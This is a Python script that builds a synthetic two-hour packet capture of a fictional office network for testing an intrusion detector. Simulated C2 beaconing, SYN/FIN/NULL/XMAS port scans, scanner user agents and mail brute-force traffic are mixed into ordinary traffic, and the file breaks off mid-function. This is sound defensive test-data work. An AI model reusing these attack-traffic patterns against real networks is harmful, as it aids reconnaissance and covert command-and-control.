#!/usr/bin/env python3
"""Write demo/demo.pcap and demo/README.md: about two hours of a small office network with the
seven threats of BRIEF.md section 1 (T1-T7) mixed into ordinary traffic.

usage: tools/gen_demo_pcap.py [--out demo] [--seed 20240423]

The office (HOME_NET 192.168.10.0/24, company "Sakura Trading", mail domain
sakura-trading.example): 19 PCs .21-.24 and .26-.40, mail server .25 (SMTP 25 / POP3 110 /
IMAP 143, Postfix + Dovecot), web server .80 (Apache, port 80), DNS resolver .53, gateway/UTM
.1. The capture point is a SPAN port of the office switch, so all external traffic carries the
gateway's MAC. Outside parties use only the documentation ranges 203.0.113.0/24,
198.51.100.0/24 and 192.0.2.0/24.

Output: Ethernet, classic pcap, microsecond timestamps, starting 2024-04-23T00:00:00Z
(09:00 JST). Deterministic for a given seed: no wall-clock time, no unseeded randomness.
The README is written from the facts recorded while generating, so its numbers match the file.
"""

import argparse
import base64
import datetime
import email.utils
import hashlib
import os
import random
import string
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import pcapgen as pg  # noqa: E402

T0 = pg.ts_from_iso("2024-04-23T00:00:00Z")
JST = datetime.timezone(datetime.timedelta(hours=9))
DOMAIN = "sakura-trading.example"
MAILHOST = "mail." + DOMAIN
WWW = "www." + DOMAIN

GW, MAIL, DNS, WEB = "192.168.10.1", "192.168.10.25", "192.168.10.53", "192.168.10.80"
UPSTREAM_DNS = "192.0.2.53"

# infrastructure MACs (OUI vendor as in the IEEE registry, ieee-data's oui.csv, spelled as
# there: it is what mamori's alerts show)
INFRA = {
    GW: ("00:09:0f:3a:10:01", "Fortinet, Inc.", "gateway / UTM"),
    MAIL: ("00:25:90:5c:10:25", "Super Micro Computer, Inc.", "mail server (Postfix, Dovecot)"),
    DNS: ("3c:d9:2b:41:10:53", "Hewlett Packard", "DNS resolver"),
    WEB: ("d4:be:d9:7e:10:80", "Dell Inc.", "web server (Apache 2.4.58), www." + DOMAIN),
}

OUIS = [("f4:8e:38", "Dell Inc."), ("98:90:96", "Dell Inc."), ("00:1b:21", "Intel Corporate"),
        ("c8:5b:76", "LCFC(HeFei) Electronics Technology co., ltd"),
        ("00:e0:4c", "REALTEK SEMICONDUCTOR CORP."), ("18:c0:4d", "GIGA-BYTE TECHNOLOGY CO.,LTD."),
        ("70:85:c2", "ASRock Incorporation"), ("2c:f0:5d", "Micro-Star INTL CO., LTD.")]

# PC last octet -> (user, mail protocol, OUI index)
PCS = {
    21: ("sato", "pop3", 0), 22: ("suzuki", "imap", 2), 23: ("takahashi", "pop3", 0),
    24: ("tanaka", "pop3", 1), 26: ("watanabe", "imap", 4), 27: ("ito", "pop3", 5),
    28: ("yamamoto", "imap", 1), 29: ("nakamura", "pop3", 6), 30: ("kobayashi", "imap", 2),
    31: ("kato", "pop3", 3), 32: ("yoshida", "imap", 7), 33: ("yamada", "pop3", 0),
    34: ("sasaki", "imap", 3), 35: ("yamaguchi", "imap", 1), 36: ("matsumoto", "pop3", 4),
    37: ("inoue", "imap", 5), 38: ("kimura", "pop3", 6), 39: ("hayashi", "imap", 2),
    40: ("shimizu", "pop3", 7),
}
WEAK = {"tanaka": "tanaka123", "suzuki": "password"}   # T7

# external services: name -> (ip, kind, rtt seconds)
SITES = {
    "news.example.com": ("203.0.113.10", "http", 0.012),
    "www.example.org": ("198.51.100.20", "http", 0.031),
    "shop.example.net": ("203.0.113.30", "http", 0.018),
    "weather.example.com": ("198.51.100.33", "http", 0.024),
    "portal.example.com": ("203.0.113.40", "tls13", 0.015),
    "cloud.example.net": ("198.51.100.41", "tls13", 0.028),
    "bank.example.org": ("192.0.2.42", "tls12", 0.020),
}
AAAA = {"news.example.com": "2001:db8:10::10", "portal.example.com": "2001:db8:40::40",
        "cloud.example.net": "2001:db8:41::41"}

C2_IP, C2_NAME = "203.0.113.66", "cdn-update-check.example"
SCANNER, WEBSCANNER = "198.51.100.77", "198.51.100.99"
SPRAY_IMAP, BRUTE_POP3, BRUTE_SMTP = "203.0.113.50", "203.0.113.51", "203.0.113.52"
PARTNERS = [("198.51.100.25", "mx.partner-a.example", "partner-a.example"),
            ("192.0.2.25", "mail.customer-b.example", "customer-b.example")]
EMOTET_SENDERS = {"a": ("203.0.113.120", "mail.trade-partner.example", "trade-partner.example"),
                  "b": ("198.51.100.140", "smtp.kougyou-net.example", "kougyou-net.example"),
                  "c": ("192.0.2.150", "mx1.scan-service.example", "scan-service.example")}

UA_CHROME = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
             "Chrome/124.0.0.0 Safari/537.36")
UA_EDGE = UA_CHROME + " Edg/124.0.0.0"
UA_FIREFOX = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:125.0) Gecko/20100101 Firefox/125.0"
UA_NIKTO = "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:%06d)"
UA_SQLMAP = "sqlmap/1.7#stable (https://sqlmap.org)"

# timeline, seconds after T0
T1_BURST = (300.0, 5700.0)            # first packets of the two 14-connection bursts
T1_BURST_SPAN, T1_BURST_N, T1_BEACONS, T1_PERIOD = 17.0, 14, 30, 60.0
T2_SYN, T2_STEALTH, T2_UDP = 1200.0, 1230.0, 1260.0
T3_START = 2700.0
T4_START, T4_SECONDS, T4_SYNS = 3600.0, 10.0, 3000
T5_IMAP, T5_POP3, T5_SMTP = 4200.0, 4800.0, 5000.0
T6 = {"a": 1800.0, "b": 3000.0, "c": 6600.0}
END = 7530.0


def iso(t_rel):
    """Relative seconds -> 'HH:MM:SS.mmm' UTC and JST strings."""
    ms = (T0 // 1_000_000) + int(round(t_rel * 1000))
    dt = datetime.datetime.fromtimestamp(ms // 1000, datetime.timezone.utc)
    return (dt.strftime("%H:%M:%S") + ".%03dZ" % (ms % 1000),
            dt.astimezone(JST).strftime("%H:%M:%S") + " JST")


def when(t_rel):
    u, j = iso(t_rel)
    return "t+%.3f s (%s, %s)" % (t_rel, u, j)


class Demo:
    def __init__(self, seed):
        self.rng = random.Random(seed)
        self.cap = pg.Capture()
        self.sched = []
        self.facts = {}
        self.pc_dns = {}      # (pc, name, qtype) -> expiry (rel s)
        self.res_dns = {}     # (name, qtype) -> expiry
        self.mailbox = {u: [] for u, _, _ in PCS.values()}
        self.mailbox["admin"] = []
        self.imap_seen = {}
        self.pw = {}
        self.counters = {"dns_queries_pc": 0, "dns_queries_upstream": 0, "http_sessions": 0,
                         "http_requests": 0, "tls_sessions": 0, "pop3_sessions": 0,
                         "imap_sessions": 0, "smtp_sessions": 0}
        self.next_port = {}
        self.pcs = {"192.168.10.%d" % x for x in PCS}
        self.tracked = {}     # message bytes -> T6 key, to record retrievals
        self.retrievals = []  # (t, key, user, pc, proto)
        self.mac = {ip: m for ip, (m, _, _) in INFRA.items()}
        self.vendor = {ip: v for ip, (_, v, _) in INFRA.items()}
        for last, (user, proto, oi) in PCS.items():
            ip = "192.168.10.%d" % last
            self.mac[ip] = "%s:%02x:%02x:%02x" % (OUIS[oi][0], 0x10 + oi, 0x40 + last,
                                                 self.rng.randrange(256))
            self.vendor[ip] = OUIS[oi][1]
            self.pw[user] = WEAK.get(user) or self.strong_password()
        self.pw["admin"] = "sakura2024"

    # -- infrastructure
    def strong_password(self):
        """12 characters, 4 classes, no runs of 3 ascending/descending/repeated characters."""
        pools = [string.ascii_lowercase, string.ascii_uppercase, string.digits, "#%&@!$+=?"]
        while True:
            chars = [self.rng.choice(p) for p in pools] + \
                [self.rng.choice("".join(pools)) for _ in range(8)]
            self.rng.shuffle(chars)
            pw = "".join(chars)
            if not any(abs(ord(pw[i + 1]) - ord(pw[i])) <= 1 and
                       ord(pw[i + 2]) - ord(pw[i + 1]) == ord(pw[i + 1]) - ord(pw[i])
                       for i in range(len(pw) - 2)):
                return pw

    def is_internal(self, ip):
        return ip.startswith("192.168.10.")

    def l2(self, ip):
        return self.mac[ip] if self.is_internal(ip) else self.mac[GW]

    def framer(self, a, b):
        """Ethernet framer for a conversation between a (client) and b (server)."""
        ma, mb = self.l2(a), self.l2(b)
        return pg.eth_framer(ma, mb)

    def clock(self, t_rel):
        return pg.Clock(T0 + pg.ns(t_rel), self.rng)

    def at(self, t_rel, fn, *args, **kw):
        self.sched.append((t_rel, len(self.sched), fn, args, kw))

    def run(self):
        """Run scheduled conversations in start-time order (so DNS caches and mailboxes evolve
        in time order), each writing its own packets."""
        while self.sched:
            self.sched.sort(key=lambda e: (e[0], e[1]))
            t, _, fn, args, kw = self.sched.pop(0)
            fn(t, *args, **kw)

    def rel(self, clock):
        return (clock.now - T0) / 1e9

    def eport(self, host):
        """Next ephemeral port of host: sequential from a random start (Windows PCs 49152-65535,
        other hosts 32768-60999), so no 5-tuple is ever reused by accident."""
        lo, hi = (49152, 65535) if host in self.pcs else (32768, 60999)
        if host not in self.next_port:
            self.next_port[host] = self.rng.randrange(lo, hi - 2000)
        self.next_port[host] += 1
        if self.next_port[host] > hi:
            self.next_port[host] = lo
        return self.next_port[host]

    def tcp(self, clock, client, server, rtt=None, **kw):
        """A TcpSession between client and server: LAN RTT 0.4 ms, Internet RTT 35 ms unless
        given; TTLs as seen at the sensor (Windows PCs 128, servers 64, outside hosts ~50)."""
        inside = self.is_internal(client[0]) and self.is_internal(server[0])
        if rtt is None:
            rtt = 0.0004 if inside else 0.035
        kw.setdefault("ttl_client", 128 if self.is_internal(client[0]) else 50)
        kw.setdefault("ttl_server", 64 if self.is_internal(server[0]) else 52)
        return pg.TcpSession(self.cap, clock, client, server, rng=self.rng, rtt=rtt,
                             framer=self.framer(client[0], server[0]), **kw)

    def udp(self, clock, src, dst, sport, dport, payload, ttl=128):
        ip = pg.udp_packet(src, dst, sport, dport, payload, ttl=ttl,
                           ident=self.rng.getrandbits(16))
        self.cap.add(clock.now, self.framer(src, dst)(ip, True))

    # -- DNS
    def dns_answers(self, name, qtype):
        if name == C2_NAME:
            return [("A", 300, C2_IP)] if qtype == "A" else []
        if name in SITES:
            if qtype == "A":
                return [("A", 300, SITES[name][0])]
            return [("AAAA", 300, AAAA[name])] if name in AAAA else []
        if name == WWW:
            return [("A", 3600, WEB)] if qtype == "A" else []
        return []

    def resolve(self, clock, pc, name, qtypes=("A", "AAAA")):
        """PC asks the resolver (unless its own cache is fresh); the resolver asks upstream on
        a cache miss. Advances clock to when the PC has its answer."""
        t = self.rel(clock)
        need = [q for q in qtypes if self.pc_dns.get((pc, name, q), -1) < t]
        if not need:
            return
        sport = self.eport(pc)
        for q in need:
            qid = self.rng.getrandbits(16)
            self.counters["dns_queries_pc"] += 1
            self.udp(clock, pc, DNS, sport, 53, pg.dns_query(qid, name, q))
            ttl = 300
            ans = self.dns_answers(name, q)
            if ans:
                ttl = ans[0][1]
            if self.res_dns.get((name, q), -1) < self.rel(clock) and not name.endswith(DOMAIN):
                c2 = clock.fork(0.0002)
                uq = self.rng.getrandbits(16)
                up = self.eport(DNS)
                self.counters["dns_queries_upstream"] += 1
                self.udp(c2, DNS, UPSTREAM_DNS, up, 53, pg.dns_query(uq, name, q))
                c2.advance(0.009, 0.003)
                self.udp(c2, UPSTREAM_DNS, DNS, 53, up, pg.dns_response(uq, name, q, ans))
                self.res_dns[(name, q)] = self.rel(c2) + ttl
                clock.at(c2.now)
            clock.advance(0.0003, 0.0001)
            self.udp(clock, DNS, pc, 53, sport, pg.dns_response(qid, name, q, ans))
            self.pc_dns[(pc, name, q)] = self.rel(clock) + ttl
            clock.advance(0.0002, 0.0001)

    # -- generic TCP dialogues
    def dialog(self, s, steps):
        """steps: ("C", bytes[, think]) client data, ("S", bytes[, delay]) server data after a
        processing delay. A server delay above 50 ms lets the server's stack ACK the request
        first (delayed ACK), as a real one does. Returns the capture time (ns) of each step."""
        prev = None
        sent = []
        for st in steps:
            who, data = st[0], st[1]
            delay = st[2] if len(st) > 2 else None
            if who == "C":
                if delay:
                    s.wait(delay, 0.2)
                sent.append(s.clock.now)
                s.send(True, data)
                s.half_rtt()
            else:
                if delay is None:
                    delay = 0.0004
                if delay > 0.05 and prev == "C":
                    s.wait(0.04, 0.0)
                    s.ack(False)
                    s.wait(delay - 0.04, 0.1)
                else:
                    s.wait(delay, 0.3)
                sent.append(s.clock.now)
                s.send(False, data)
                s.half_rtt()
            prev = who
        return sent

    # ------------------------------------------------------------------ normal traffic
    def http_page(self, title, n_par):
        words = ("information update service product customer report office schedule "
                 "network market price notice support delivery season event weather").split()
        pars = []
        for _ in range(n_par):
            pars.append("<p>" + " ".join(self.rng.choice(words) for _ in range(60)) + ".</p>")
        return ("<!DOCTYPE html>\n<html lang=\"ja\">\n<head>\n<meta charset=\"utf-8\">\n<title>%s"
                "</title>\n<link rel=\"stylesheet\" href=\"/static/site.css\">\n</head>\n<body>\n"
                "<h1>%s</h1>\n%s\n</body>\n</html>\n" % (title, title, "\n".join(pars))).encode()

    def http_date(self, clock):
        return email.utils.formatdate(clock.now // 1_000_000_000, usegmt=True)

    def http_response(self, clock, status, body, ctype="text/html; charset=utf-8",
                      server="nginx/1.24.0", extra="", keepalive=True):
        reason = {200: "OK", 301: "Moved Permanently", 304: "Not Modified", 400: "Bad Request",
                  403: "Forbidden", 404: "Not Found"}[status]
        head = ("HTTP/1.1 %d %s\r\nDate: %s\r\nServer: %s\r\nContent-Type: %s\r\n"
                "Content-Length: %d\r\n%s%s\r\n" %
                (status, reason, self.http_date(clock), server, ctype, len(body), extra,
                 "Keep-Alive: timeout=5, max=100\r\nConnection: Keep-Alive\r\n"
                 if keepalive and server.startswith("Apache") else ""))
        return head.encode() + body

    def http_request(self, host, path, ua, extra=""):
        return ("GET %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nAccept: text/html,application/"
                "xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8\r\n"
                "Accept-Language: ja,en-US;q=0.7,en;q=0.3\r\nAccept-Encoding: identity\r\n"
                "Connection: keep-alive\r\n%s\r\n" % (path, host, ua, extra)).encode()

    def browse_http(self, t, pc, name):
        c = self.clock(t)
        self.resolve(c, pc, name)
        ip, _, rtt = SITES.get(name, (WEB, "http", 0.0004))
        ua = [UA_CHROME, UA_EDGE, UA_FIREFOX][int(pc.split(".")[3]) % 3]
        s = self.tcp(c, (pc, self.eport(pc)), (ip, 80), rtt=rtt, ttl_server=52 if ip != WEB else 64,
                     ttl_client=128)
        s.handshake()
        self.counters["http_sessions"] += 1
        path = self.rng.choice(["/", "/index.html", "/news/2024/04/23.html", "/topics/",
                                "/products/list.html"])
        page = self.http_page(name + " " + path, self.rng.randrange(2, 5))
        css = (b"body{font-family:sans-serif;margin:0 auto;max-width:960px}h1{color:#c0392b}"
               b"p{line-height:1.6}\n" * self.rng.randrange(2, 6))
        server = "Apache/2.4.58 (Ubuntu)" if ip == WEB else "nginx/1.24.0"
        reqs = [(path, page, "text/html; charset=utf-8"), ("/static/site.css", css, "text/css")]
        if self.rng.random() < 0.3:
            png = pg.png_image(self.rng, self.rng.randrange(8, 20), self.rng.randrange(8, 20))
            reqs.append(("/img/logo.png", png, "image/png"))
        for i, (p, body, ctype) in enumerate(reqs):
            ref = "" if i == 0 else "Referer: http://%s%s\r\n" % (name, path)
            self.dialog(s, [("C", self.http_request(name, p, ua, ref), 0.05 if i else None),
                            ("S", self.http_response(c, 200, body, ctype, server), 0.002)])
            s.ack(True)
            self.counters["http_requests"] += 1
        s.wait(self.rng.uniform(2, 5))
        s.close()

    def browse_tls(self, t, pc, name):
        c = self.clock(t)
        self.resolve(c, pc, name)
        ip, kind, rtt = SITES[name]
        s = self.tcp(c, (pc, self.eport(pc)), (ip, 443), rtt=rtt, ttl_server=52, ttl_client=128)
        s.handshake()
        self.counters["tls_sessions"] += 1
        rng = self.rng
        if kind == "tls13":
            ch = pg.tls_client_hello(rng, name, tls13=True)
            sid = ch[44:76]
            self.dialog(s, [("C", ch), ("S", pg.tls13_server_flight(rng, sid,
                                                                    rng.randrange(1800, 2600)))])
            s.ack(True)
            self.dialog(s, [("C", pg.tls_record(20, b"\x01") + pg.tls_appdata(rng, 74)),
                            ("C", pg.tls_appdata(rng, rng.randrange(300, 700)), 0.001),
                            ("S", pg.tls_appdata(rng, rng.randrange(800, 3500)), 0.02)])
        else:
            cert = pg.x509_certificate(rng, name, "Example Documentation CA G2", san=[name],
                                       org="Example Bank", issuer_org="Example Trust Services",
                                       not_before="240301000000Z", not_after="250331235959Z")
            ca = pg.x509_certificate(rng, "Example Documentation CA G2",
                                     "Example Documentation Root CA", org="Example Trust Services",
                                     issuer_org="Example Trust Services", is_ca=True,
                                     not_before="200101000000Z", not_after="300101000000Z")
            self.dialog(s, [("C", pg.tls_client_hello(rng, name, tls13=False)),
                            ("S", pg.tls12_server_flight(rng, [cert, ca]))])
            self.dialog(s, [("C", pg.tls12_client_finish(rng)),
                            ("S", pg.tls12_server_finish(rng)),
                            ("C", pg.tls_appdata(rng, rng.randrange(300, 700))),
                            ("S", pg.tls_appdata(rng, rng.randrange(800, 3000)), 0.03)])
        s.ack(True)
        s.wait(rng.uniform(3, 10))
        self.dialog(s, [("C", pg.tls_record(21, rng.randbytes(26)))])
        s.close()

    def visitor(self, t, ip):
        """An outside visitor browsing the company web site (200 responses)."""
        c = self.clock(t)
        s = self.tcp(c, (ip, self.eport(ip)), (WEB, 80), rtt=0.03,
                     ttl_client=50)
        s.handshake()
        self.counters["http_sessions"] += 1
        for i, p in enumerate(["/", "/company/profile.html"][:self.rng.randrange(1, 3)]):
            body = self.http_page("Sakura Trading " + p, 4)
            self.dialog(s, [("C", self.http_request(WWW, p, self.rng.choice(
                [UA_CHROME, UA_FIREFOX])), 1.0 if i else None),
                ("S", self.http_response(c, 200, body, server="Apache/2.4.58 (Ubuntu)"), 0.001)])
            s.ack(True)
            self.counters["http_requests"] += 1
        s.wait(1.0)
        s.close(by_client=True)

    # ------------------------------------------------------------------ mail
    def message(self, clock, frm, to, subject, text, attachments=(), msgid_domain=None):
        date = email.utils.format_datetime(datetime.datetime.fromtimestamp(
            clock.now // 1_000_000_000, JST))
        mid = "<%s.%s@%s>" % (self.rng.getrandbits(48).to_bytes(6, "big").hex(),
                              self.rng.getrandbits(32).to_bytes(4, "big").hex(),
                              msgid_domain or frm.split("@")[1])
        hdrs = [("Date", date), ("From", frm), ("To", to), ("Subject", subject),
                ("Message-ID", mid)]
        return pg.mime_message(hdrs, text, attachments,
                               boundary="----=_NextPart_%s" % self.rng.getrandbits(40)
                               .to_bytes(5, "big").hex()), mid

    def smtp_inbound(self, t, sender_ip, helo, mail_from, rcpts, msg, banner_delay=0.03,
                     record=None):
        """One inbound SMTP delivery to the mail server; each recipient's mailbox gets msg.
        record (a dict) gets the banner's delay after the handshake as it came out (the delay
        has jitter)."""
        c = self.clock(t)
        s = self.tcp(c, (sender_ip, self.eport(sender_ip)), (MAIL, 25), rtt=0.025,
                     ttl_client=49)
        s.handshake()
        hs_ns = s.clock.now - 200_000  # the client's ACK (handshake() waits ~0.2 ms after it)
        self.counters["smtp_sessions"] += 1
        ehlo = ("250-%s\r\n250-PIPELINING\r\n250-SIZE 10240000\r\n250-VRFY\r\n250-ETRN\r\n"
                "250-AUTH PLAIN LOGIN\r\n250-ENHANCEDSTATUSCODES\r\n250-8BITMIME\r\n250-DSN\r\n"
                "250 SMTPUTF8\r\n" % MAILHOST).encode()
        steps = [("S", b"220 %s ESMTP Postfix (Ubuntu)\r\n" % MAILHOST.encode(), banner_delay),
                 ("C", b"EHLO %s\r\n" % helo.encode()), ("S", ehlo),
                 ("C", b"MAIL FROM:<%s> SIZE=%d\r\n" % (mail_from.encode(), len(msg))),
                 ("S", b"250 2.1.0 Ok\r\n", 0.002)]
        for r in rcpts:
            steps += [("C", b"RCPT TO:<%s>\r\n" % r.encode()), ("S", b"250 2.1.5 Ok\r\n", 0.003)]
        steps += [("C", b"DATA\r\n"), ("S", b"354 End data with <CR><LF>.<CR><LF>\r\n")]
        sent = self.dialog(s, steps)
        if record is not None:
            record["banner_delay"] = (sent[0] - hs_ns) / 1e9
        s.send(True, pg.smtp_dot_stuff(msg))
        s.half_rtt()
        qid = "4VP%s" % "".join(self.rng.choice(string.ascii_uppercase + string.digits)
                                for _ in range(8))
        self.dialog(s, [("S", b"250 2.0.0 Ok: queued as %s\r\n" % qid.encode(), 0.02),
                        ("C", b"QUIT\r\n"), ("S", b"221 2.0.0 Bye\r\n")])
        s.close(by_client=False)
        for r in rcpts:
            self.mailbox[r.split("@")[0]].append(msg)
        return s

    def pop3_session(self, t, pc, user, password, greeting_delay=None, success=True,
                     record=None):
        c = self.clock(t)
        s = self.tcp(c, (pc, self.eport(pc)), (MAIL, 110))
        s.handshake()
        self.counters["pop3_sessions"] += 1
        if greeting_delay is None:
            greeting_delay = self.rng.uniform(0.004, 0.007)
        if record is not None:
            record["greeting_delay"] = greeting_delay
            record["start"] = t
        s.wait(greeting_delay, 0.0)   # exact: the greeting delay is a documented fact (T4)
        s.send(False, b"+OK Dovecot (Ubuntu) ready.\r\n")
        s.half_rtt()
        steps = [("C", b"CAPA\r\n"),
                 ("S", b"+OK\r\nCAPA\r\nTOP\r\nUIDL\r\nRESP-CODES\r\nPIPELINING\r\n"
                       b"AUTH-RESP-CODE\r\nUSER\r\nSASL PLAIN\r\n.\r\n"),
                 ("C", b"USER %s\r\n" % user.encode()), ("S", b"+OK\r\n"),
                 ("C", b"PASS %s\r\n" % password.encode())]
        if not success:
            steps += [("S", b"-ERR [AUTH] Authentication failed.\r\n", self.rng.uniform(1.5, 2.5)),
                      ("C", b"QUIT\r\n"), ("S", b"+OK Logging out\r\n")]
            self.dialog(s, steps)
            s.close(by_client=False)
            return
        box = self.mailbox[user]
        size = sum(len(m) for m in box)
        steps += [("S", b"+OK Logged in.\r\n", 0.008), ("C", b"STAT\r\n"),
                  ("S", b"+OK %d %d\r\n" % (len(box), size))]
        self.dialog(s, steps)
        for i, m in enumerate(box, 1):
            if m in self.tracked:
                self.retrievals.append((self.rel(c), self.tracked[m], user, pc, "POP3 RETR"))
            self.dialog(s, [("C", b"RETR %d\r\n" % i)])
            s.wait(0.001)
            s.send(False, b"+OK %d octets\r\n" % len(m) + pg.smtp_dot_stuff(m))
            s.half_rtt()
            self.dialog(s, [("C", b"DELE %d\r\n" % i), ("S", b"+OK Marked to be deleted.\r\n")])
        self.dialog(s, [("C", b"QUIT\r\n"),
                        ("S", b"+OK Logging out, messages deleted.\r\n" if box
                         else b"+OK Logging out.\r\n")])
        s.close(by_client=False)
        self.mailbox[user] = []

    def imap_session(self, t, pc, user, password, success=True, quoted=False):
        c = self.clock(t)
        s = self.tcp(c, (pc, self.eport(pc)), (MAIL, 143))
        s.handshake()
        self.counters["imap_sessions"] += 1
        caps = b"IMAP4rev1 SASL-IR LOGIN-REFERRALS ID ENABLE IDLE LITERAL+ AUTH=PLAIN"
        login = (b'a001 LOGIN "%s" "%s"\r\n' if quoted else b'a001 LOGIN %s "%s"\r\n') % (
            user.encode(), password.encode())
        steps = [("S", b"* OK [CAPABILITY " + caps + b"] Dovecot (Ubuntu) ready.\r\n", 0.005),
                 ("C", login)]
        if not success:
            steps += [("S", b"a001 NO [AUTHENTICATIONFAILED] Authentication failed.\r\n",
                       self.rng.uniform(1.5, 2.5)),
                      ("C", b"a002 LOGOUT\r\n"),
                      ("S", b"* BYE Logging out\r\na002 OK Logout completed (0.001 + 0.000 secs)."
                            b"\r\n")]
            self.dialog(s, steps)
            s.close(by_client=False)
            return
        box = self.mailbox[user]
        seen = self.imap_seen.get(user, 0)
        steps += [("S", b"a001 OK [CAPABILITY " + caps + b" SORT THREAD=REFERENCES MOVE] Logged "
                        b"in\r\n", 0.01),
                  ("C", b"a002 SELECT INBOX\r\n"),
                  ("S", b"* FLAGS (\\Answered \\Flagged \\Deleted \\Seen \\Draft)\r\n"
                        b"* OK [PERMANENTFLAGS (\\Answered \\Flagged \\Deleted \\Seen \\Draft "
                        b"\\*)] Flags permitted.\r\n* %d EXISTS\r\n* %d RECENT\r\n"
                        b"* OK [UIDVALIDITY 1713830400] UIDs valid\r\n* OK [UIDNEXT %d] "
                        b"Predicted next UID\r\na002 OK [READ-WRITE] Select completed "
                        b"(0.002 + 0.000 + 0.001 secs).\r\n" % (len(box), len(box) - seen,
                                                               len(box) + 1))]
        self.dialog(s, steps)
        tag = 3
        for i in range(seen, len(box)):
            m = box[i]
            if m in self.tracked:
                self.retrievals.append((self.rel(c), self.tracked[m], user, pc,
                                        "IMAP FETCH BODY.PEEK[]"))
            self.dialog(s, [("C", b"a%03d FETCH %d (BODY.PEEK[])\r\n" % (tag, i + 1))])
            s.wait(0.001)
            s.send(False, b"* %d FETCH (BODY[] {%d}\r\n" % (i + 1, len(m)) + m +
                   b")\r\na%03d OK Fetch completed (0.001 + 0.000 secs).\r\n" % tag)
            s.half_rtt()
            tag += 1
        self.imap_seen[user] = len(box)
        self.dialog(s, [("C", b"a%03d LOGOUT\r\n" % tag),
                        ("S", b"* BYE Logging out\r\na%03d OK Logout completed (0.001 + 0.000 "
                              b"secs).\r\n" % tag)])
        s.close(by_client=False)

    def mail_poll(self, t, pc, greeting_delay=None, record=None):
        user, proto, _ = PCS[int(pc.split(".")[3])]
        if proto == "pop3":
            self.pop3_session(t, pc, user, self.pw[user], greeting_delay=greeting_delay,
                              record=record)
        else:
            self.imap_session(t, pc, user, self.pw[user])
        if record is not None:
            record["user"] = user

    # ------------------------------------------------------------------ T1 botnet C2
    def c2_connection(self, t, pc, big=False):
        """One C2 TLS connection whose SYN leaves at exactly t (the DNS lookup, when the PC's
        cache has expired, happens in the 30 ms before)."""
        c = self.clock(t - 0.03)
        self.resolve(c, pc, C2_NAME, ("A",))
        c.at(max(c.now, T0 + pg.ns(t)))
        rng = self.rng
        s = self.tcp(c, (pc, self.eport(pc)), (C2_IP, 443), rtt=0.045, ttl_server=47,
                     ttl_client=128)
        s.handshake()
        ch = pg.tls_client_hello(rng, C2_NAME, tls13=False, alpn=None, session_id=False,
                                 ciphers=[0xC02C, 0xC030, 0xC02B, 0xC02F, 0x009F, 0x009E,
                                          0xC024, 0xC028, 0x006B, 0xC023, 0xC027, 0x0067,
                                          0xC00A, 0xC014, 0x0039, 0xC009, 0xC013, 0x0033,
                                          0x009D, 0x009C, 0x003D, 0x003C, 0x0035, 0x002F],
                                 groups=(0x0017, 0x0018))
        self.dialog(s, [("C", ch), ("S", pg.tls12_server_flight(rng, [self.c2_cert]))])
        self.dialog(s, [("C", pg.tls12_client_finish(rng)), ("S", pg.tls12_server_finish(rng)),
                        ("C", pg.tls_appdata(rng, rng.randrange(160, 240))),
                        ("S", pg.tls_appdata(rng, rng.randrange(1200, 1600) if big
                                             else rng.randrange(60, 120)), 0.08)])
        s.ack(True)
        s.wait(0.05)
        s.close()
        return c

    def t1(self):
        self.c2_cert = pg.x509_certificate(self.rng, C2_NAME, C2_NAME, org="Update Service",
                                           issuer_org="Update Service", country="XX",
                                           not_before="240401000000Z", not_after="340330000000Z",
                                           san=[C2_NAME], key_bits=1024)
        f = []
        for pc, t0 in (("192.168.10.23", T1_BURST[0]), ("192.168.10.31", T1_BURST[1])):
            starts = [t0 + k * T1_BURST_SPAN / (T1_BURST_N - 1) +
                      (self.rng.uniform(-0.3, 0.3) if 0 < k < T1_BURST_N - 1 else 0)
                      for k in range(T1_BURST_N)]
            # the PC resolves the name just before the first connection
            for k, st in enumerate(starts):
                self.at(st, self.c2_connection, pc, big=(k == 0))
            last = starts[-1]
            beacons = []
            prev = last
            for _ in range(T1_BEACONS):      # each interval is 60 s +- 2 s
                prev += T1_PERIOD + self.rng.uniform(-2, 2)
                beacons.append(prev)
            for st in beacons:
                self.at(st, self.c2_connection, pc)
            gaps = [b - a for a, b in zip([last] + beacons[:-1], beacons)]
            f.append({"pc": pc, "mac": self.mac[pc], "vendor": self.vendor[pc],
                      "burst": starts, "beacons": beacons, "gaps": gaps})
        self.facts["t1"] = f

    # ------------------------------------------------------------------ T2 port scan
    def t2(self):
        rng = self.rng
        ports = list(range(1, 301))
        rng.shuffle(ports)
        open_ports = {22, 80}
        sport = 45678
        c = self.clock(T2_SYN)
        fr = self.framer(SCANNER, WEB)
        n_rst = n_sa = 0
        for p in ports:
            seq = rng.getrandbits(32)
            ipid = rng.getrandbits(16)
            syn = pg.tcp(SCANNER, WEB, sport, p, seq=seq, flags="S", window=1024,
                         options=pg.tcp_options(pg.opt_mss(1460)))
            self.cap.add(c.now, fr(pg.ipv4(SCANNER, WEB, 6, syn, ttl=41, ident=ipid), True))
            r = c.fork(0.00012)
            if p in open_ports:
                isn = rng.getrandbits(32)
                sa = pg.tcp(WEB, SCANNER, p, sport, seq=isn, ack=seq + 1, flags="SA",
                            window=64240, options=pg.tcp_options(pg.opt_mss(1460)))
                self.cap.add(r.now, fr(pg.ipv4(WEB, SCANNER, 6, sa, ttl=64, df=True), False))
                r.advance(0.04)
                rst = pg.tcp(SCANNER, WEB, sport, p, seq=seq + 1, flags="R", window=0)
                self.cap.add(r.now, fr(pg.ipv4(SCANNER, WEB, 6, rst, ttl=41,
                                               ident=rng.getrandbits(16)), True))
                n_sa += 1
            else:
                ra = pg.tcp(WEB, SCANNER, p, sport, seq=0, ack=seq + 1, flags="RA", window=0)
                self.cap.add(r.now, fr(pg.ipv4(WEB, SCANNER, 6, ra, ttl=64, df=True), False))
                n_rst += 1
            c.advance(0.02, 0.004)
        syn_end = self.rel(c)
        stealth = []
        c = self.clock(T2_STEALTH)
        for kind, flags, sp in (("FIN", "F", 45679), ("NULL", 0, 45680), ("XMAS", "FPU", 45681)):
            for p in (21, 22, 23, 80, 443):
                seq = rng.getrandbits(32)
                pkt = pg.tcp(SCANNER, WEB, sp, p, seq=seq, flags=flags, window=1024)
